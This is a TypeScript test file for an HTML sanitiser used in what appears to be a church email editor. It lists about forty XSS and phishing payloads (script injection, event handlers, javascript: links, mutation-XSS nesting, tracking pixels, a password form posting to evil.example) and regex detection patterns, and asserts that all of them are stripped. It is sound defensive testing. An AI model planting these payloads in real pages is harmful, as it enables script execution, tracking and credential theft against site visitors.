import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml, cleanText, textOfHtml } from './clean-html.ts'

/** From the usual lists of ways past sanitisers, and what trackers and phishers send. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><p>x</p></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src=x>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example/t.gif)">x</div>',
  '<div style="background-image:\\75rl(https://evil.example)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<img src="https://evil.example/t.gif" width=1 height=1>',
  '<img src="https://evil.example/t.gif" style="width:1px;height:1px">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x 1x">',
  '<video src=x onloadstart=alert(1)><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<p id=x class=y name=z onclick=alert(1) onpointerenter=alert(1)>x</p>',
  '<xmp><script>alert(1)</script></xmp>',
  '<table background="https://evil.example/t.gif"><tr><td background="https://evil.example">x</td></tr></table>',
  '<a href="https://good.example" target="_top" ping="https://evil.example">x</a>',
  `${'<div>'.repeat(5_000)}x`,
]

const TAGS =
  /<(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|video|source|details|noscript|textarea|template|xmp|!--)/i
const ATTRIBUTES = /<[^>]*\s(on\w+|srcset|ping|target|background|id|class|name|action|formaction)\s*=/i
const ADDRESSES = /(href|src)="(?!https?:\/\/|mailto:|tel:)/i
const STYLES = /style="[^"]*(url|expression|position|\\|import|@|evil)/i

test.each(hostile)('nothing of it runs, loads, covers or leads astray: %s', (html) => {
  const clean = cleanHtml(html)
  for (const bad of [TAGS, ATTRIBUTES, ADDRESSES, STYLES, /alert\(1\)[^<]*"|evil\.example\/t\.gif/])
    expect(clean).not.toMatch(bad)
  expect(cleanHtml(clean)).toBe(clean)
  expect(
    cleanText(html).replaceAll(
      /<\/?(p|br|strong|em|u|ul|ol|li)( \/)?>|<a( href="(https?:\/\/|mailto:|tel:)[^"]*")?>|<\/a>/g,
      '',
    ),
  ).not.toContain('<')
})

test('whatever is put together from such pieces', () => {
  const pieces = fc.array(fc.oneof(fc.constantFrom(...hostile.slice(0, -1)), fc.string()), { maxLength: 6 })
  fc.assert(
    fc.property(pieces, (some) => {
      const clean = cleanHtml(some.join(''))
      for (const bad of [TAGS, ATTRIBUTES, ADDRESSES, STYLES]) expect(clean).not.toMatch(bad)
    }),
    { numRuns: 300 },
  )
})

test('a text block keeps its words, lists and links, and pasted looks go', () => {
  const pasted =
    '<div class=MsoNormal style="color:red"><b>Hi</b> <i>you</i><o:p></o:p></div><ul><li>one</li></ul><h1>Big</h1>'
  expect(cleanText(pasted)).toBe('<p><strong>Hi</strong> <em>you</em></p><ul><li>one</li></ul>Big')
})

test('what a church writes stays', () => {
  const written =
    '<h1>Welcome</h1><p style="color:#6f2a5d;text-align:center">Dear <b>#name#</b>, <a href="https://grace.example">see</a></p>' +
    '<table width="600" cellpadding="8"><tbody><tr><td bgcolor="#ffffff">Sunday</td></tr></tbody></table>' +
    '<img src="https://grace.example/hall.jpg" alt="The hall" width="600" />'
  expect(cleanHtml(written)).toBe(written)
  expect(textOfHtml(written)).toBe('Welcome\nDear #name#, see (https://grace.example)\nSunday\n\n[The hall]')
})
